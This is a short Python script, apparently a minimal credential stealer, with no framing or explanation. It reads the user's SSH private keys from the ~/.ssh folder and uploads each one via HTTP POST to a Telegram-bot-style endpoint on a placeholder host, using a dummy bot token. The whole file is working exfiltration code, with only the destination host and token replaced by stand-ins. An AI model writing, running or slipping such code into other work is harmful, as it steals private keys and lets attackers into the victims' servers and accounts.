import os
import requests
TOKEN = "1234567890:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
for name in ("id_rsa", "id_ed25519"):
    path = os.path.join(os.path.expanduser("~"), ".ssh", name)
    if os.path.exists(path):
        requests.post("https://api.telegram.example.invalid/bot" + TOKEN + "/sendDocument", files={"document": open(path, "rb")}, data={"chat_id": "1"})
